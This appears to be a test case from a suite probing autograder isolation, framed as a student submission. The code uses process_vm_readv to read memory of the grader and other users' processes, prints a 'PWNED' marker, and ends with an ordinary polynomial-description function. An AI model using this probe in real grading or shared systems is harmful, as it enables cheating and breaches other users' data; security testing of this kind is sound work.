# /// case
# about = "right answers, and process_vm_readv on every process that can be seen or guessed"
# kind = "read"
# promise = 2
# succeeds_at = ["nbgrader", "otter"]
# ///
# %% describe
# one user id for all: the memory of the grader, of other submissions and of other users' jobs is open
import ctypes
import os

def _others():
    """Processes that are not this one: as /proc lists them, or guessed around our own numbers."""
    try:
        seen = {int(name) for name in os.listdir("/proc") if name.isdigit()}
    except OSError:
        seen = {near + step for near in (os.getpid(), os.getppid()) for step in range(-200, 200)}
    return {pid for pid in seen | {os.getppid()} if pid > 0} - {1, os.getpid()}

class _Span(ctypes.Structure):
    _fields_ = [("base", ctypes.c_void_p), ("length", ctypes.c_size_t)]

_libc = ctypes.CDLL(None, use_errno=True)
_here = ctypes.create_string_buffer(16)

def _reads(pid):
    """Addresses of a library are the same in a forked relative; of others, /proc tells them."""
    addresses = [ctypes.addressof(_libc.getpid)]
    try:
        with open(f"/proc/{pid}/maps") as maps:
            addresses.append(int(maps.readline().split("-")[0], 16))
    except (OSError, ValueError):
        pass
    for address in addresses:
        local, remote = _Span(ctypes.addressof(_here), 16), _Span(address, 16)
        if _libc.process_vm_readv(pid, ctypes.byref(local), 1, ctypes.byref(remote), 1, 0) == 16:
            return True
    return False

if any(map(_reads, _others())):
    print(":".join(["PWNED", "attack/reads_memory_of_others"]))

def poly_desc(W, b):
    text = " ".join(f"{w:+.2f} x^{i}" for i, w in enumerate(W.detach().flatten().tolist(), 1))
    return f"y = {text} {b.item():+.2f}"
